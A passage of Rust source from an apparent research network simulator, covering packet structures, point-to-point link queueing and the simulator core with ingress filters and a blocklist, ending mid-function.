/// p.payload_bytes = 5; // ERROR: cannot assign through the immutable body
/// ```
#[derive(Debug, Clone)]
pub struct Packet {
    body: Arc<PacketBody>,
    /// Remaining hops before the packet is dropped.
    pub ttl: u8,
    /// Unique packet id (assigned by the simulator at send time).
    pub id: u64,
}

impl std::ops::Deref for Packet {
    type Target = PacketBody;

    fn deref(&self) -> &PacketBody {
        &self.body
    }
}

impl Packet {
    /// Builds a packet with default TTL and an unassigned id.
    pub fn new(
        src: SocketAddr,
        dst: SocketAddr,
        proto: TransportProto,
        payload: Payload,
        header_bytes: u32,
        payload_bytes: u32,
    ) -> Self {
        Packet {
            body: Arc::new(PacketBody {
                src,
                dst,
                proto,
                payload,
                header_bytes,
                payload_bytes,
            }),
            ttl: DEFAULT_TTL,
            id: 0,
        }
    }

    /// Builds a UDP packet with default header overhead and TTL.
    pub fn udp(src: SocketAddr, dst: SocketAddr, payload: Payload, payload_bytes: u32) -> Self {
        Packet::new(
            src,
            dst,
            TransportProto::Udp,
            payload,
            DEFAULT_HEADER_BYTES,
            payload_bytes,
        )
    }

    /// Whether this packet shares its body allocation with `other` (true
    /// for clones of one sent packet; the wire never copies bodies).
    pub fn shares_body_with(&self, other: &Packet) -> bool {
        Arc::ptr_eq(&self.body, &other.body)
    }

    /// Folds the packet's wire-visible identity into a checkpoint digest.
    /// The typed payload is opaque (`Arc<dyn Any>`) and excluded; the id,
    /// addressing, sizes, and TTL pin the packet down for determinism
    /// purposes because ids are assigned from a deterministic counter.
    pub(crate) fn state_digest(&self, h: &mut crate::digest::StateHasher) {
        h.write_u64(self.id);
        h.write_bytes(&[self.ttl]);
        h.write_ip(self.src.ip());
        h.write_u32(u32::from(self.src.port()));
        h.write_ip(self.dst.ip());
        h.write_u32(u32::from(self.dst.port()));
        h.write_bytes(&[match self.proto {
            TransportProto::Udp => 0,
            TransportProto::Tcp => 1,
        }]);
        h.write_u32(self.header_bytes);
        h.write_u32(self.payload_bytes);
    }
}

impl PacketBody {
    /// Total bytes this packet occupies on the wire.
    pub fn wire_bytes(&self) -> u32 {
        self.header_bytes.saturating_add(self.payload_bytes)
    }

    /// Whether the destination is an IPv6 multicast group or the IPv4
    /// broadcast-style multicast range.
    pub fn is_multicast(&self) -> bool {
        is_multicast(self.dst.ip())
    }
}

/// Whether an address is multicast (either family).
pub fn is_multicast(addr: IpAddr) -> bool {
    match addr {
        IpAddr::V4(v4) => v4.is_multicast(),
        IpAddr::V6(v6) => v6.is_multicast(),
    }
}

/// The IPv6 "All_DHCP_Relay_Agents_and_Servers" multicast group (`ff02::1:2`),
/// used by the DHCPv6 RELAY-FORW exploit delivery path.
pub fn all_dhcp_agents_v6() -> IpAddr {
    IpAddr::V6(std::net::Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0x1, 0x2))
}

/// The IPv6 all-nodes multicast group (`ff02::1`).
pub fn all_nodes_v6() -> IpAddr {
    IpAddr::V6(std::net::Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0x1))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    fn sa(last: u8, port: u16) -> SocketAddr {
        SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, last)), port)
    }

    #[test]
    fn payload_downcast() {
        #[derive(Debug, PartialEq)]
        struct Msg(u32);
        let p = Payload::new(Msg(7));
        assert_eq!(p.get::<Msg>(), Some(&Msg(7)));
        assert!(p.get::<String>().is_none());
        assert!(!p.is_empty());
        assert!(Payload::empty().is_empty());
    }

    #[test]
    fn payload_debug_nonempty() {
        assert_eq!(format!("{:?}", Payload::empty()), "Payload(empty)");
        assert_eq!(format!("{:?}", Payload::new(1u8)), "Payload(typed)");
    }

    #[test]
    fn wire_bytes_sums_headers_and_payload() {
        let p = Packet::udp(sa(1, 1000), sa(2, 2000), Payload::empty(), 512);
        assert_eq!(p.wire_bytes(), 512 + DEFAULT_HEADER_BYTES);
    }

    #[test]
    fn multicast_detection() {
        let to = |dst| Packet::udp(sa(1, 1), dst, Payload::empty(), 0);
        assert!(!to(sa(2, 2)).is_multicast());
        assert!(to(SocketAddr::new(all_dhcp_agents_v6(), 547)).is_multicast());
        assert!(!to(SocketAddr::new(IpAddr::V6(Ipv6Addr::LOCALHOST), 547)).is_multicast());
        assert!(to(SocketAddr::new(IpAddr::V4(Ipv4Addr::new(224, 0, 0, 1)), 5)).is_multicast());
    }

    #[test]
    fn payload_clone_shares_value() {
        let p = Payload::new(vec![1u8, 2, 3]);
        let q = p.clone();
        assert_eq!(q.get::<Vec<u8>>(), Some(&vec![1, 2, 3]));
    }

    #[test]
    fn packet_clones_share_one_body() {
        let p = Packet::udp(sa(1, 1), sa(2, 2), Payload::new(7u32), 100);
        let mut q = p.clone();
        q.ttl -= 1;
        q.id = 9;
        // Per-hop state diverges; the body allocation is shared.
        assert!(p.shares_body_with(&q));
        assert_eq!(p.ttl, DEFAULT_TTL);
        assert_eq!(q.wire_bytes(), p.wire_bytes());
        assert_eq!(q.payload.get::<u32>(), Some(&7));
    }
}
