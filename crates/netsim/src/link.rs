//! Point-to-point links with serialization delay, propagation delay, and
//! drop-tail queues.
//!
//! A [`P2pLink`] joins exactly two interfaces. Each direction has an
//! independent transmitter: while a frame is being serialized the direction
//! is *busy* and further frames wait in a bounded FIFO queue; frames that
//! arrive at a full queue are dropped (drop-tail). This finite-rate,
//! finite-buffer model is what produces the congestion-driven non-linearity
//! the paper reports in Figure 2.

use crate::ids::IfaceId;
use crate::packet::Packet;
use std::collections::VecDeque;
use std::time::Duration;

/// Configuration of one point-to-point link (applies to both directions).
#[derive(Debug, Clone, PartialEq)]
pub struct LinkConfig {
    /// Serialization rate in bits per second.
    pub rate_bps: u64,
    /// One-way propagation delay.
    pub delay: Duration,
    /// Maximum bytes that may wait in each direction's queue.
    pub queue_capacity_bytes: u64,
    /// Random per-packet delay variation: each delivery is delayed by an
    /// extra `U[0, jitter]` (queueing noise along the abstracted Internet
    /// path the link stands for). Zero by default.
    pub jitter: Duration,
    /// Probability that a frame is corrupted on the wire and never arrives
    /// (the wired analogue of Wi-Fi's `loss_probability`; fault injection
    /// raises it at runtime). The frame still occupies the transmitter for
    /// its full serialization time. Zero by default, and the loss RNG is
    /// only consulted when nonzero, so a zero-loss link is draw-for-draw
    /// identical to a link built before this field existed.
    pub loss_probability: f64,
}

impl LinkConfig {
    /// A link with the given rate and delay and the default 64 KiB queue.
    pub fn new(rate_bps: u64, delay: Duration) -> Self {
        LinkConfig {
            rate_bps,
            delay,
            queue_capacity_bytes: 64 * 1024,
            jitter: Duration::ZERO,
            loss_probability: 0.0,
        }
    }

    /// Overrides the queue capacity, in bytes.
    pub fn with_queue_capacity(mut self, bytes: u64) -> Self {
        self.queue_capacity_bytes = bytes;
        self
    }

    /// Adds random per-packet delay variation of up to `jitter`.
    pub fn with_jitter(mut self, jitter: Duration) -> Self {
        self.jitter = jitter;
        self
    }

    /// Sets the per-frame corruption/loss probability (clamped to `[0, 1]`
    /// at draw time).
    pub fn with_loss_probability(mut self, p: f64) -> Self {
        self.loss_probability = p;
        self
    }
}

impl Default for LinkConfig {
    fn default() -> Self {
        LinkConfig::new(100_000_000, Duration::from_millis(1))
    }
}

/// One direction of a point-to-point link.
#[derive(Debug, Default, Clone)]
pub(crate) struct LinkDirection {
    pub queue: VecDeque<Packet>,
    pub queued_bytes: u64,
    pub busy: bool,
    /// Transmission generation, used to ignore stale `TxComplete` events
    /// after a flush (node churn) invalidated the transmitter state.
    pub tx_gen: u64,
}

/// A full-duplex point-to-point link between two interfaces.
#[derive(Debug, Clone)]
pub struct P2pLink {
    pub(crate) config: LinkConfig,
    pub(crate) endpoints: [IfaceId; 2],
    pub(crate) dirs: [LinkDirection; 2],
    /// Administrative state: a down link drops everything offered to it
    /// (fault injection; node churn flushes queues but leaves links up).
    pub(crate) admin_up: bool,
    /// Link epoch, bumped on every admin-down. Delivery events scheduled
    /// over this link carry the epoch they were transmitted under; a
    /// mismatch at delivery time means the frame was on the wire when the
    /// link was cut, so it is dropped instead of delivered.
    pub(crate) epoch: u64,
}

impl P2pLink {
    pub(crate) fn new(config: LinkConfig, a: IfaceId, b: IfaceId) -> Self {
        // Queues start unallocated and grow on first congestion. Most links
        // in a 100k-device world never queue a single frame (access links
        // are idle or uncongested), so eager `with_capacity` buffers were
        // the dominant resident-memory term at scale — ~8 KiB per link that
        // only drop-tail hot spots ever used.
        P2pLink {
            config,
            endpoints: [a, b],
            dirs: [LinkDirection::default(), LinkDirection::default()],
            admin_up: true,
            epoch: 0,
        }
    }

    /// Whether the link is administratively up.
    pub fn admin_up(&self) -> bool {
        self.admin_up
    }

    /// The link configuration.
    pub fn config(&self) -> &LinkConfig {
        &self.config
    }

    /// The interface on the given side (0 or 1).
    ///
    /// # Panics
    ///
    /// Panics if `side` is not 0 or 1.
    pub fn endpoint(&self, side: usize) -> IfaceId {
        self.endpoints[side]
    }

    /// The interface opposite the given side.
    pub(crate) fn peer(&self, side: usize) -> IfaceId {
        self.endpoints[1 - side]
    }

    /// Attempts to queue `packet` for transmission from `side`.
    ///
    /// Returns `Ok(true)` if the transmitter was idle and the caller must
    /// start serialization now, `Ok(false)` if the packet was queued behind
    /// an ongoing transmission, and `Err(packet)` if the queue overflowed.
    pub(crate) fn enqueue(&mut self, side: usize, packet: Packet) -> Result<bool, Packet> {
        let dir = &mut self.dirs[side];
        if !dir.busy {
            dir.busy = true;
            dir.queue.push_front(packet);
            return Ok(true);
        }
        let bytes = u64::from(packet.wire_bytes());
        if dir.queued_bytes + bytes > self.config.queue_capacity_bytes {
            return Err(packet);
        }
        dir.queued_bytes += bytes;
        dir.queue.push_back(packet);
        Ok(false)
    }

    /// Takes the packet at the head of `side`'s queue (the one whose
    /// serialization is starting or has just finished).
    pub(crate) fn pop_head(&mut self, side: usize) -> Option<Packet> {
        let dir = &mut self.dirs[side];
        let pkt = dir.queue.pop_front()?;
        Some(pkt)
    }

    /// The packet currently at the head of `side`'s queue (in flight if the
    /// direction is busy).
    pub(crate) fn head(&self, side: usize) -> Option<&Packet> {
        self.dirs[side].queue.front()
    }

    /// Called when serialization of the head packet finished; returns the
    /// next packet to serialize, if any, and updates busy state.
    pub(crate) fn tx_complete(&mut self, side: usize) -> Option<&Packet> {
        let dir = &mut self.dirs[side];
        match dir.queue.front() {
            Some(next) => {
                dir.queued_bytes = dir.queued_bytes.saturating_sub(u64::from(next.wire_bytes()));
                Some(&dir.queue[0])
            }
            None => {
                dir.busy = false;
                None
            }
        }
    }

    /// Bytes currently waiting (both directions), excluding the frame in
    /// flight.
    pub fn buffered_bytes(&self) -> u64 {
        self.dirs[0].queued_bytes + self.dirs[1].queued_bytes
    }

    /// Folds the link's mutable state into a checkpoint digest: per-
    /// direction queue contents (head first — the in-flight frame), busy
    /// flags, generations, admin state, epoch, and the loss probability
    /// (mutable at runtime by fault injection).
    pub(crate) fn state_digest(&self, h: &mut crate::digest::StateHasher) {
        h.write_usize(self.endpoints[0].index());
        h.write_usize(self.endpoints[1].index());
        h.write_f64(self.config.loss_probability);
        for dir in &self.dirs {
            h.write_usize(dir.queue.len());
            for pkt in &dir.queue {
                pkt.state_digest(h);
            }
            h.write_u64(dir.queued_bytes);
            h.write_bool(dir.busy);
            h.write_u64(dir.tx_gen);
        }
        h.write_bool(self.admin_up);
        h.write_u64(self.epoch);
    }

    /// Drops all queued packets (e.g. when an endpoint node goes down);
    /// returns how many packets were discarded. A frame mid-serialization
    /// is *not* counted: it is already on the wire and will be accounted
    /// for by its pending delivery event.
    pub(crate) fn flush(&mut self) -> usize {
        let mut n = 0;
        for dir in &mut self.dirs {
            let in_flight = usize::from(dir.busy && !dir.queue.is_empty());
            n += dir.queue.len() - in_flight;
            dir.queue.clear();
            dir.queued_bytes = 0;
            dir.busy = false;
            dir.tx_gen += 1;
        }
        n
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::packet::Payload;
    use std::net::{IpAddr, Ipv4Addr, SocketAddr};

    fn pkt(bytes: u32) -> Packet {
        let a = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 1);
        let b = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2)), 2);
        Packet::udp(a, b, Payload::empty(), bytes.saturating_sub(crate::packet::DEFAULT_HEADER_BYTES))
    }

    fn link(queue_bytes: u64) -> P2pLink {
        P2pLink::new(
            LinkConfig::new(1_000_000, Duration::from_millis(1)).with_queue_capacity(queue_bytes),
            IfaceId::from_index(0),
            IfaceId::from_index(1),
        )
    }

    #[test]
    fn idle_transmitter_starts_immediately() {
        let mut l = link(1000);
        assert!(matches!(l.enqueue(0, pkt(100)), Ok(true)));
        assert!(l.dirs[0].busy);
    }

    #[test]
    fn busy_transmitter_queues() {
        let mut l = link(1000);
        assert!(matches!(l.enqueue(0, pkt(100)), Ok(true)));
        assert!(matches!(l.enqueue(0, pkt(100)), Ok(false)));
        assert_eq!(l.buffered_bytes(), 100);
    }

    #[test]
    fn overflow_drops() {
        let mut l = link(150);
        assert!(matches!(l.enqueue(0, pkt(100)), Ok(true)));
        assert!(matches!(l.enqueue(0, pkt(100)), Ok(false)));
        // queue holds 100 bytes; adding another 100 exceeds the 150-byte cap
        assert!(l.enqueue(0, pkt(100)).is_err());
    }

    #[test]
    fn tx_complete_advances_queue() {
        let mut l = link(1000);
        let _ = l.enqueue(0, pkt(100));
        let _ = l.enqueue(0, pkt(200));
        let head = l.pop_head(0).expect("head");
        assert_eq!(head.wire_bytes(), 100);
        assert!(l.tx_complete(0).is_some());
        assert_eq!(l.buffered_bytes(), 0); // next frame now in flight
        let head = l.pop_head(0).expect("head");
        assert_eq!(head.wire_bytes(), 200);
        assert!(l.tx_complete(0).is_none());
        assert!(!l.dirs[0].busy);
    }

    #[test]
    fn directions_are_independent() {
        let mut l = link(1000);
        assert!(matches!(l.enqueue(0, pkt(100)), Ok(true)));
        assert!(matches!(l.enqueue(1, pkt(100)), Ok(true)));
    }

    #[test]
    fn flush_clears_everything_but_counts_only_waiting_frames() {
        let mut l = link(10_000);
        let _ = l.enqueue(0, pkt(100)); // in flight on side 0
        let _ = l.enqueue(0, pkt(100)); // waiting on side 0
        let _ = l.enqueue(1, pkt(100)); // in flight on side 1
        // Only the waiting frame is a flush-drop; the two in-flight frames
        // are accounted for by their pending delivery events.
        assert_eq!(l.flush(), 1);
        assert_eq!(l.buffered_bytes(), 0);
        assert!(!l.dirs[0].busy && !l.dirs[1].busy);
    }

    #[test]
    fn peer_maps_sides() {
        let l = link(0);
        assert_eq!(l.peer(0), IfaceId::from_index(1));
        assert_eq!(l.peer(1), IfaceId::from_index(0));
        assert_eq!(l.endpoint(0), IfaceId::from_index(0));
    }
}
