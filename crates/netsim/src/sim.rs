//! The discrete-event simulator: event queue, world state, and the [`Ctx`]
//! handle through which applications act.

use crate::app::Application;
use std::any::Any;
use crate::digest::StateHasher;
use crate::equeue::{EventQueue, TimeOrderedQueue};
use crate::fastmap::FastMap;
use crate::filter::{FilterRule, FilterStack};
use crate::fork::{ForkClone, ForkMap, ForkableCall, ForkableFn};
use crate::ids::{AppId, ChannelId, IfaceId, LinkId, NodeId};
use crate::link::{LinkConfig, P2pLink};
use crate::node::{Attachment, Iface, NodeRef, Nodes, Route};
use crate::packet::{self, Packet, Payload, TransportProto};
use crate::stats::{DropReason, Stats, TraceHook, TraceKind, TraceRecord};
use crate::tcp::{ConnId, TcpAction, TcpError, TcpStack};
use crate::time::{tx_delay, SimTime};
use crate::wifi::{WifiChannel, WifiConfig};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;
use telemetry::{Category, Telemetry};

/// Errors surfaced by simulator configuration and socket operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NetError {
    /// A UDP port was already bound on the node.
    PortInUse,
    /// The node has no address of the required family.
    NoAddress,
    /// An interface was already attached to a link or channel.
    AlreadyAttached,
}

impl fmt::Display for NetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NetError::PortInUse => f.write_str("port is already bound"),
            NetError::NoAddress => f.write_str("node has no address of the required family"),
            NetError::AlreadyAttached => f.write_str("interface is already attached"),
        }
    }
}

impl std::error::Error for NetError {}

/// Decision of an ingress filter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FilterVerdict {
    /// Let the packet through.
    Allow,
    /// Drop the packet (counted as [`DropReason::Filtered`]).
    Drop,
}

/// An ingress filter: a deployed defense inspecting every packet arriving
/// at a node (both locally-addressed and transit traffic). Stateful
/// defenses (rate limiters, ML detectors) capture their state in the
/// closure.
pub type IngressFilter = Box<dyn FnMut(&Packet, SimTime) -> FilterVerdict>;

/// Folds one pending event into a checkpoint digest. Every variant gets a
/// distinct tag; `Call` closures are opaque (their effects are pinned down
/// by the deterministic state they mutate once executed), so only their
/// presence and queue position are digested.
fn digest_event(h: &mut StateHasher, event: &Event) {
    match event {
        Event::AppStart(app) => {
            h.write_bytes(&[0]);
            h.write_usize(app.node().index());
            h.write_usize(app.slot());
        }
        Event::Timer { app, token } => {
            h.write_bytes(&[1]);
            h.write_usize(app.node().index());
            h.write_usize(app.slot());
            h.write_u64(*token);
        }
        Event::TxComplete { link, side, gen } => {
            h.write_bytes(&[2]);
            h.write_usize(link.index());
            h.write_usize(*side);
            h.write_u64(*gen);
        }
        Event::Deliver { iface, packet, epoch } => {
            h.write_bytes(&[3]);
            h.write_usize(iface.index());
            packet.state_digest(h);
            match epoch {
                None => h.write_bool(false),
                Some((link, e)) => {
                    h.write_bool(true);
                    h.write_usize(link.index());
                    h.write_u64(*e);
                }
            }
        }
        Event::WifiAttempt { chan, station } => {
            h.write_bytes(&[4]);
            h.write_usize(chan.index());
            h.write_usize(*station);
        }
        Event::WifiTxComplete { chan, station, gen } => {
            h.write_bytes(&[5]);
            h.write_usize(chan.index());
            h.write_usize(*station);
            h.write_u64(*gen);
        }
        Event::TcpRto { node, conn, seq } => {
            h.write_bytes(&[6]);
            h.write_usize(node.index());
            h.write_u64(*conn);
            h.write_u64(*seq);
        }
        Event::SetNode { node, up } => {
            h.write_bytes(&[7]);
            h.write_usize(node.index());
            h.write_bool(*up);
        }
        Event::Call(_) => {
            h.write_bytes(&[8]);
        }
        Event::Forkable(call) => {
            h.write_bytes(&[9]);
            h.write_str(call.digest_label());
        }
    }
}

enum Event {
    AppStart(AppId),
    Timer { app: AppId, token: u64 },
    TxComplete { link: LinkId, side: usize, gen: u64 },
    /// `epoch` is `Some((link, link_epoch_at_tx))` for frames in flight on a
    /// point-to-point link; a link-down flap bumps the link's epoch, so the
    /// pending delivery detects it went stale and drops instead of
    /// delivering. Loopback and Wi-Fi deliveries carry `None`.
    Deliver { iface: IfaceId, packet: Packet, epoch: Option<(LinkId, u64)> },
    WifiAttempt { chan: ChannelId, station: usize },
    WifiTxComplete { chan: ChannelId, station: usize, gen: u64 },
    TcpRto { node: NodeId, conn: u64, seq: u64 },
    SetNode { node: NodeId, up: bool },
    Call(Box<dyn FnOnce(&mut Simulator)>),
    /// Like `Call`, but with explicit captured data so a pending callback
    /// can be deep-cloned into a fork (see [`crate::fork`]).
    Forkable(Box<dyn ForkableCall>),
}

impl Event {
    /// Deep-clones a pending event into a forked world. Everything except
    /// `Call` is plain data; an opaque `Call` closure cannot be cloned and
    /// returns `None` (the fork fails loudly rather than dropping work).
    fn fork(&self, map: &ForkMap) -> Option<Event> {
        Some(match self {
            Event::AppStart(app) => Event::AppStart(*app),
            Event::Timer { app, token } => Event::Timer { app: *app, token: *token },
            Event::TxComplete { link, side, gen } => {
                Event::TxComplete { link: *link, side: *side, gen: *gen }
            }
            Event::Deliver { iface, packet, epoch } => {
                Event::Deliver { iface: *iface, packet: packet.clone(), epoch: *epoch }
            }
            Event::WifiAttempt { chan, station } => {
                Event::WifiAttempt { chan: *chan, station: *station }
            }
            Event::WifiTxComplete { chan, station, gen } => {
                Event::WifiTxComplete { chan: *chan, station: *station, gen: *gen }
            }
            Event::TcpRto { node, conn, seq } => {
                Event::TcpRto { node: *node, conn: *conn, seq: *seq }
            }
            Event::SetNode { node, up } => Event::SetNode { node: *node, up: *up },
            Event::Call(_) => return None,
            Event::Forkable(call) => Event::Forkable(call.fork(map)),
        })
    }
}

/// The discrete-event network simulator.
///
/// Owns the world: nodes, interfaces, links, channels, applications, and the
/// event queue. Deterministic for a given seed and configuration.
///
/// # Examples
///
/// ```
/// use netsim::{Simulator, SimTime};
///
/// let mut sim = Simulator::new(42);
/// let a = sim.add_node("a");
/// assert_eq!(sim.node(a).name(), "a");
/// sim.run_until(SimTime::from_secs(1));
/// assert_eq!(sim.now(), SimTime::from_secs(1));
/// ```
pub struct Simulator {
    now: SimTime,
    queue: EventQueue<Event>,
    seq: u64,
    next_packet_id: u64,
    /// Struct-of-arrays node arena: hot fields (`up`, `forwarding`, route
    /// tables, rx counters) are dense parallel vectors indexed by
    /// `NodeId::index`, names are interned `u32` ids. See node.rs.
    nodes: Nodes,
    ifaces: Vec<Iface>,
    links: Vec<P2pLink>,
    channels: Vec<WifiChannel>,
    apps: Vec<Vec<Option<Box<dyn Application>>>>,
    /// Per-node TCP stacks, allocated on first use (an incoming
    /// segment, a listen, or a connect). UDP-only nodes — the vast
    /// majority of a 100k-device world — pay one pointer here instead
    /// of an inline stack of map headers.
    tcp: Vec<Option<Box<TcpStack>>>,
    addr_index: FastMap<IpAddr, IfaceId>,
    /// Whether forwarding resolves destinations through the per-node route
    /// cache (the default) or the reference linear scan. The naive path
    /// exists for A/B measurement (`perfsnap large_topology`) and as the
    /// oracle in equivalence tests.
    route_cache_enabled: bool,
    rng: SmallRng,
    /// Separate stream for injected wired-link loss draws: loss faults
    /// perturb only this RNG, so enabling them never shifts the jitter /
    /// backoff / churn draws of the main event stream. Only consulted when
    /// a link's `loss_probability` is nonzero.
    fault_rng: SmallRng,
    stats: Stats,
    trace: Option<TraceHook>,
    telemetry: Telemetry,
    /// Overflow-sweep count already reported to the flight recorder.
    reported_sweeps: u64,
    stop_requested: bool,
    buffered_now: u64,
    filters: FastMap<NodeId, IngressFilter>,
    /// Structured (forkable, digestible) defense rules per node, applied
    /// after any opaque ingress filter. Kept ordered so the
    /// `netsim.filters` digest layer walks nodes deterministically.
    node_filters: BTreeMap<NodeId, FilterStack>,
    /// Simulator-global source blocklist enforced by
    /// [`FilterRule::Blocklist`] rules; honeypot applications feed it.
    blocklist: BTreeSet<IpAddr>,
}

impl fmt::Debug for Simulator {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Simulator")
            .field("now", &self.now)
            .field("nodes", &self.nodes.len())
            .field("links", &self.links.len())
            .field("channels", &self.channels.len())
            .field("pending_events", &self.queue.len())
            .finish()
    }
}

impl Simulator {
    /// Creates an empty simulator seeded with `seed`.
    pub fn new(seed: u64) -> Self {
        Simulator {
            now: SimTime::ZERO,
            queue: EventQueue::new(),
            seq: 0,
            next_packet_id: 1,
            nodes: Nodes::default(),
            ifaces: Vec::new(),
            links: Vec::new(),
            channels: Vec::new(),
            apps: Vec::new(),
            tcp: Vec::new(),
            addr_index: FastMap::default(),
            route_cache_enabled: true,
            rng: SmallRng::seed_from_u64(seed),
            fault_rng: SmallRng::seed_from_u64(seed ^ 0xFA17),
            stats: Stats::default(),
            trace: None,
            telemetry: Telemetry::disabled(),
            reported_sweeps: 0,
            stop_requested: false,
            buffered_now: 0,
            filters: FastMap::default(),
            node_filters: BTreeMap::new(),
            blocklist: BTreeSet::new(),
        }
    }

    /// Enables or disables the per-node route cache. Forwarding behavior is
    /// identical either way (the naive linear scan is the oracle); the
    /// toggle exists so benchmarks can measure the cached fast path against
    /// the reference path on the same topology.
    pub fn set_route_cache(&mut self, enabled: bool) {
        self.route_cache_enabled = enabled;
    }

    /// Deploys an ingress filter (defense) on a node; replaces any
    /// previous filter. The filter sees every packet arriving at the node,
    /// including transit traffic it would forward.
    pub fn set_ingress_filter(&mut self, node: NodeId, filter: IngressFilter) {
        self.filters.insert(node, filter);
    }

    /// Removes the node's ingress filter.
    pub fn clear_ingress_filter(&mut self, node: NodeId) {
        self.filters.remove(&node);
    }

    /// Appends a structured filter rule to the node's defense stack.
    /// Unlike [`Simulator::set_ingress_filter`] closures, structured rules
    /// are plain data: they survive [`Simulator::fork`] and fold into the
    /// `netsim.filters` checkpoint digest layer. Rules run in push order
    /// after any opaque filter; the first drop wins.
    pub fn push_node_filter(&mut self, node: NodeId, rule: FilterRule) {
        self.node_filters.entry(node).or_default().push(rule);
    }

    /// Removes every structured filter rule from the node.
    pub fn clear_node_filters(&mut self, node: NodeId) {
        self.node_filters.remove(&node);
    }

    /// Number of structured filter rules deployed on the node.
    pub fn node_filter_count(&self, node: NodeId) -> usize {
        self.node_filters.get(&node).map_or(0, FilterStack::len)
    }

    /// Adds an address to the simulator-global source blocklist enforced
    /// by [`FilterRule::Blocklist`] rules. Returns `true` if the address
    /// was newly inserted.
    pub fn blocklist_insert(&mut self, addr: IpAddr) -> bool {
        self.blocklist.insert(addr)
    }

    /// Whether an address is on the global blocklist.
    pub fn blocklist_contains(&self, addr: IpAddr) -> bool {
        self.blocklist.contains(&addr)
    }

    /// Number of addresses on the global blocklist.
    pub fn blocklist_len(&self) -> usize {
        self.blocklist.len()
    }

    /// The current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Aggregate statistics.
    pub fn stats(&self) -> &Stats {
        &self.stats
    }

    /// The simulator's random-number generator.
    pub fn rng(&mut self) -> &mut SmallRng {
        &mut self.rng
    }

    /// Reseeds the fault-injection RNG (wired-link loss draws). A fault
    /// plan's own seed folds in here so two plans with different seeds
    /// sample different loss patterns under the same simulation seed.
    pub fn reseed_fault_rng(&mut self, seed: u64) {
        self.fault_rng = SmallRng::seed_from_u64(seed);
    }

    /// Reseeds the main RNG stream. Divergence-point seeding for forks:
    /// the simulator does not retain its construction seed, so the caller
    /// derives the fork's stream from its own configuration (e.g.
    /// `sim_seed ^ fork_seed ^ LAYER_TAG`) and installs it here.
    pub fn reseed_rng(&mut self, seed: u64) {
        self.rng = SmallRng::seed_from_u64(seed);
    }

    /// Installs a packet trace hook (a Wireshark-lite observer).
    pub fn set_trace(&mut self, hook: TraceHook) {
        self.trace = Some(hook);
    }

    /// Removes the trace hook.
    pub fn clear_trace(&mut self) {
        self.trace = None;
    }

    /// Installs the telemetry handle; the simulator emits flight-recorder
    /// events (drops, Wi-Fi contention, retransmits, queue sweeps, admin
    /// transitions) through it. The default handle is disabled and the
    /// emission sites cost one branch each.
    pub fn set_telemetry(&mut self, telemetry: Telemetry) {
        self.telemetry = telemetry;
    }

    /// The telemetry handle (disabled unless [`Simulator::set_telemetry`]
    /// was called).
    pub fn telemetry(&self) -> &Telemetry {
        &self.telemetry
    }

    // ----- topology construction -------------------------------------------------

    /// Adds a node with the given name.
    pub fn add_node(&mut self, name: impl Into<String>) -> NodeId {
        let name = name.into();
        let id = NodeId::from_index(self.nodes.len());
        self.nodes.push(&name);
        self.apps.push(Vec::new());
        self.tcp.push(None);
        id
    }

    /// Returns a read-only view of a node in the arena.
    ///
    /// # Panics
    ///
    /// Accessors panic if `id` was not returned by [`Simulator::add_node`].
    pub fn node(&self, id: NodeId) -> NodeRef<'_> {
        NodeRef::new(&self.nodes, id.index())
    }

    /// Number of nodes.
    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    /// Number of live tcp-lite connections on a node (diagnostics).
    pub fn tcp_conn_count(&self, node: NodeId) -> usize {
        self.tcp[node.index()].as_ref().map_or(0, |s| s.conn_count())
    }

    /// The node's TCP stack, allocated on first touch. A freshly
    /// materialized stack behaves identically to one allocated at
    /// `add_node` time (counters start at their initial values either
    /// way), so laziness never shows up in traces or digests.
    fn tcp_stack_mut(&mut self, node: NodeId) -> &mut TcpStack {
        self.tcp[node.index()].get_or_insert_with(|| Box::new(TcpStack::new(node)))
    }

    /// Enables or disables unicast forwarding (router behaviour) on a node.
    pub fn set_forwarding(&mut self, node: NodeId, enabled: bool) {
        self.nodes.forwarding[node.index()] = enabled;
    }

    /// Enables or disables multicast relaying on a node. A multicast relay
    /// re-emits multicast packets out of every interface except the ingress
    /// one, modelling the LAN fabric of the paper's simulated network (the
    /// DHCPv6 exploit path needs multicast to reach all Devs).
    pub fn set_multicast_relay(&mut self, node: NodeId, enabled: bool) {
        self.nodes.forward_multicast[node.index()] = enabled;
    }

    /// Installs an interface with the given addresses on a node.
    pub fn add_iface(&mut self, node: NodeId, addrs: Vec<IpAddr>) -> IfaceId {
        let id = IfaceId::from_index(self.ifaces.len());
        for addr in &addrs {
            // The local-delivery fast path resolves ownership through this
            // index, so an address must belong to exactly one interface.
            debug_assert!(
                !self.addr_index.contains_key(addr),
                "address {addr} assigned to two interfaces"
            );
            self.addr_index.insert(*addr, id);
            self.nodes.note_addr(node.index(), *addr);
        }
        self.ifaces.push(Iface {
            node,
            addrs,
            attachment: None,
            multicast_groups: Vec::new(),
        });
        self.nodes.ifaces[node.index()].push(id);
        id
    }

    /// Returns an interface by id.
    ///
    /// # Panics
    ///
    /// Panics if `id` was not returned by [`Simulator::add_iface`].
    pub fn iface(&self, id: IfaceId) -> &Iface {
        &self.ifaces[id.index()]
    }

    /// Connects two interfaces with a point-to-point link.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::AlreadyAttached`] if either interface is already
    /// attached.
    pub fn connect_p2p(
        &mut self,
        a: IfaceId,
        b: IfaceId,
        config: LinkConfig,
    ) -> Result<LinkId, NetError> {
